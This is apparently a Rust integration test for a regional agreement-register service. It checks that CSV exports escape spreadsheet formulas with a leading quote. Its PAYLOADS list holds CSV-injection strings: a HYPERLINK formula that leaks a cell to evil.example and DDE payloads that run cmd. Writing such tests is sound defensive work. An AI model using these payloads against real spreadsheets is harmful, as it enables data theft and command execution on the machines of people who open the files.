//! Text that a spreadsheet would run as a formula (OWASP's CSV injection)
//! comes back from every CSV with a leading `'`, in both dialects and in the
//! unauthenticated open register, while the API keeps the exact value.

use kerjasama_grpc::open_register::OpenRegisterSettings;
use kerjasama_proto::v1 as pb;
use kerjasama_tests::{Options, TestServer, authed, fresh_database, http_get};

use crate::fixtures::{REGION, create, create_unit, ksdd_ksb};
use crate::metrics::run;
use crate::reports::download_in;

const PAYLOADS: &[&str] = &[
    "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"klik\")",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
];

/// Every cell of a parsed CSV: none may start a formula.
fn assert_no_formula(file: &str, text: &str, delimiter: u8) {
    let text = text.trim_start_matches('\u{feff}');
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(false)
        .delimiter(delimiter)
        .from_reader(text.as_bytes());
    let mut cells = 0;
    for record in reader.records() {
        for cell in record.expect("a CSV record").iter() {
            cells += 1;
            let formula = match cell.chars().next() {
                Some('=' | '+' | '@' | '\t' | '\r') => true,
                Some('-') => cell[1..].parse::<f64>().is_err() || cell.len() == 1,
                _ => false,
            };
            assert!(!formula, "{file}: the cell {cell:?} would run as a formula");
        }
    }
    assert!(cells > 0, "{file} is empty");
    for payload in PAYLOADS {
        assert!(
            text.contains(&format!("'{payload}").replace('"', "\"\""))
                || text.contains(&format!("'{payload}")),
            "{file} does not carry {payload:?} as text: {text}"
        );
    }
}

#[tokio::test]
async fn formulas_in_titles_come_back_as_text_from_every_csv_and_exact_from_the_api() {
    let server = TestServer::start_with_options(
        fresh_database().await,
        Options {
            open_register: Some(OpenRegisterSettings {
                region_code: Some(REGION.into()),
                publisher: "Biro Kerja Sama Provinsi Banten".into(),
                base_url: None,
            }),
            ..Options::default()
        },
    )
    .await;
    create_unit(&server, "DLHK").await;
    for payload in PAYLOADS {
        // Signed and in force until 2029: published.
        let mut published = ksdd_ksb("DLHK", payload);
        published.parties[0].name = payload.to_string();
        let published = create(&server, published).await;
        assert_eq!(published.title, *payload, "the API keeps the exact value");
        assert_eq!(published.parties[0].name, *payload);
        // Ending two months after the report's date: in the renewal watch.
        let mut ending = ksdd_ksb("DLHK", payload);
        ending.effective_until = "2026-08-31".into();
        create(&server, ending).await;
        // Not signed, its first stage long open: overdue.
        let mut draft = ksdd_ksb("DLHK", payload);
        draft.signed_on.clear();
        draft.effective_from.clear();
        draft.effective_until.clear();
        let draft = create(&server, draft).await;
        server
            .stages()
            .start_stage(authed(
                &server.admin,
                pb::StartStageRequest {
                    name: format!("{}/stages/PERSIAPAN", draft.name),
                    started_on: "2026-01-05".into(),
                    notes: String::new(),
                },
            ))
            .await
            .unwrap();
    }

    let report = run(&server, "2026-06-30", "2026-04-01", "2026-06-30").await;
    for file in ["overdue_stages.csv", "renewal_watch.csv"] {
        let stored = download_in(&server, &report.name, file, "").await.unwrap();
        assert_no_formula(file, &String::from_utf8(stored).unwrap(), b',');
        let excel = download_in(&server, &report.name, file, "excel-id")
            .await
            .unwrap();
        assert_no_formula(file, &String::from_utf8(excel).unwrap(), b';');
    }
    let (status, _, body) = http_get(server.http_addr, "/public/public_register.csv", None).await;
    assert_eq!(status, 200);
    assert_no_formula(
        "public_register.csv",
        &String::from_utf8(body).unwrap(),
        b',',
    );
}
